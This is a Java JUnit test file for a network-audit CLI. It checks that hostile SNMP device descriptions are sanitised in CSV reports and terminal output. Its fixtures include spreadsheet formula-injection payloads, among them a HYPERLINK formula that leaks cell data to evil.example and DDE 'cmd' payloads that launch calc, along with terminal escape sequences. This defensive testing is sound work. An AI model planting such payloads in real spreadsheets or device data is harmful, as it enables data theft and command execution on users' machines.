package io.netaudit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.netaudit.agent.SimulatedDevice;
import io.netaudit.agent.SimulatedNetwork;
import io.netaudit.testing.Mibs;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile device text (reliability plan 5.4) through the whole CLI against SNMP4J agents on
 * 127.0.79.0/28: the report stays RFC 4180 with the same column count on every row, valid UTF-8,
 * one physical line per row, formulas are neutralised, and no NUL, ESC or other control byte
 * reaches stdout or stderr raw.
 */
@Timeout(30)
class HostileDeviceTextTest {
  private static SimulatedNetwork network;
  private static final Map<String, byte[]> DESCR = new java.util.LinkedHashMap<>();

  @TempDir Path dir;

  private static byte[] bytes(Object... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (Object p : parts) {
      if (p instanceof String s) {
        out.writeBytes(s.getBytes(StandardCharsets.UTF_8));
      } else if (p instanceof int[] b) {
        for (int x : b) {
          out.write(x);
        }
      }
    }
    return out.toByteArray();
  }

  @BeforeAll
  static void start() throws Exception {
    DESCR.put(
        "nul-esc",
        bytes(
            "Huawei VRP",
            new int[] {0},
            " \u001b[2J\u001b]0;owned\u0007 ",
            new int[] {0x1b},
            "[31mred ",
            "\u009b1m C1-CSI\b\bback"));
    DESCR.put(
        "gbk",
        bytes("ZTE ", new int[] {0xd6, 0xd0, 0xd0, 0xcb, 0xcd, 0xa8, 0xd1, 0xb6}, " ZXR10")); // GBK
    DESCR.put("latin1", bytes("Copyright ", new int[] {0xa9}, " 2024 Cisco Systems"));
    DESCR.put(
        "invalid-utf8",
        bytes("x", new int[] {0xff, 0xfe, 0xc3}, "y", new int[] {0xed, 0xa0, 0x80}));
    DESCR.put(
        "crlf",
        bytes("Cisco IOS Software\r\nTechnical Support: http://www.cisco.com\r\nline3\rline4\n"));
    DESCR.put("formula-eq", bytes("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
    DESCR.put("formula-plus", bytes("+cmd|' /C calc'!A0"));
    DESCR.put("formula-minus", bytes("-2+3+cmd|' /C calc'!A0"));
    DESCR.put("formula-at", bytes("@SUM(1+9)*cmd|' /C calc'!A0"));
    DESCR.put("formula-tab", bytes("\t=1+1"));
    DESCR.put("formula-space", bytes("   =1+1"));
    DESCR.put("formula-cr", bytes("\r=1+1"));
    DESCR.put("quotes-commas", bytes("a,\"b\",c;d\"\"e"));
    DESCR.put("big", bytes("Huawei ", "B".repeat(60_000)));
    List<SimulatedDevice> devices = new ArrayList<>();
    int host = 1;
    for (Map.Entry<String, byte[]> e : DESCR.entrySet()) {
      // the name carries the same bytes, the location a formula: several device-text columns at
      // once
      devices.add(
          new SimulatedDevice(
              ip(host++),
              Mibs.system(
                  e.getValue(),
                  "1.3.6.1.4.1.8072.3.2.10",
                  new String(e.getValue(), StandardCharsets.ISO_8859_1)
                      .substring(0, Math.min(200, e.getValue().length)))));
    }
    network = SimulatedNetwork.start(devices, 0);
  }

  @AfterAll
  static void stop() throws Exception {
    network.close();
  }

  private static InetAddress ip(int host) throws Exception {
    return InetAddress.getByAddress(new byte[] {127, 0, 79, (byte) host});
  }

  private String[] scan(String... extra) {
    List<String> a =
        new ArrayList<>(
            List.of(
                "scan",
                "-p",
                Integer.toString(network.port()),
                "--timeout",
                "500ms",
                "--retries",
                "1",
                "--rate",
                "2000",
                "--all-targets",
                "--fail-on",
                "never"));
    a.addAll(List.of(extra));
    a.add("127.0.79.0/28");
    return a.toArray(new String[0]);
  }

  private static void assertNoRawControls(String what, String text) {
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean allowed = c == '\r' || c == '\n';
      assertThat(allowed || (c >= 0x20 && c != 0x7f && !(c >= 0x80 && c <= 0x9f)))
          .as(
              "%s: raw control U+%04X at %d: ...%s...",
              what,
              (int) c,
              i,
              text.substring(Math.max(0, i - 20), Math.min(text.length(), i + 20)))
          .isTrue();
    }
  }

  @Test
  void reportStaysParseableSafeAndValidUtf8() throws Exception {
    Path report = dir.resolve("r.csv");
    CliRun run = CliRun.of(scan("-o", report.toString()));
    assertThat(run.exitCode()).as(run.err()).isZero();
    byte[] raw = Files.readAllBytes(report);
    // valid UTF-8 whatever the devices sent
    String csv =
        StandardCharsets.UTF_8
            .newDecoder()
            .onMalformedInput(CodingErrorAction.REPORT)
            .onUnmappableCharacter(CodingErrorAction.REPORT)
            .decode(ByteBuffer.wrap(raw))
            .toString();
    assertNoRawControls("report", csv);

    List<CSVRecord> records;
    List<String> header;
    try (CSVParser p =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .build()
            .parse(new StringReader(csv))) {
      header = p.getHeaderNames();
      records = p.getRecords();
    }
    assertThat(records).hasSize(16);
    // one physical line per record: no cell carries a line break
    assertThat(csv.split("\r\n", -1)).hasSize(records.size() + 2);
    Map<String, CSVRecord> byAddress = new HashMap<>();
    for (CSVRecord r : records) {
      assertThat(r.size()).as("row %s", r.get("address")).isEqualTo(header.size());
      assertThat(r.isConsistent()).isTrue();
      byAddress.put(r.get("address"), r);
      for (String cell : r.values()) {
        String t = cell.stripLeading();
        assertThat(t.isEmpty() || "=+-@\t\r".indexOf(t.charAt(0)) < 0)
            .as("cell starts like a formula: %s", cell.length() > 80 ? cell.substring(0, 80) : cell)
            .isTrue();
      }
    }
    int host = 1;
    for (String name : DESCR.keySet()) {
      CSVRecord r = byAddress.get("127.0.79." + host++);
      assertThat(r.get("status")).as(name).isNotIn("NO_RESPONSE", "ERROR");
      String descr = r.get("sys_descr");
      switch (name) {
        case "nul-esc" ->
            assertThat(descr)
                .contains("\\x00")
                .contains("\\x1b[2J")
                .contains("\\x9b")
                .contains("\\x08");
        case "gbk" -> assertThat(descr).startsWith("ZTE ").endsWith(" ZXR10");
        case "latin1" -> assertThat(descr).contains("\u00a9 2024 Cisco");
        case "crlf" ->
            assertThat(descr)
                .isEqualTo(
                    "Cisco IOS Software | Technical Support: http://www.cisco.com | "
                        + "line3 | line4 | ");
        case "formula-eq", "formula-plus", "formula-minus", "formula-at" ->
            assertThat(descr)
                .startsWith("'")
                .isEqualTo("'" + new String(DESCR.get(name), StandardCharsets.UTF_8));
        case "formula-tab" -> assertThat(descr).isEqualTo("'\\x09=1+1");
        case "formula-space" -> assertThat(descr).isEqualTo("'   =1+1");
        case "formula-cr" -> assertThat(descr).startsWith("'");
        case "quotes-commas" -> assertThat(descr).isEqualTo("a,\"b\",c;d\"\"e");
        case "big" -> assertThat(descr).hasSize(60_007);
        default -> {}
      }
      assertThat(r.get("sys_name")).as(name).doesNotContain("\u0000").doesNotContain("\u001b");
    }
  }

  @Test
  void nothingRawReachesTheTerminal() {
    CliRun run = CliRun.of(scan("-o", "-"));
    assertThat(run.exitCode()).as(run.err()).isZero();
    assertNoRawControls("stdout", run.out());
    assertNoRawControls("stderr", run.err());
    assertThat(run.out()).contains("127.0.79.1,");
  }
}
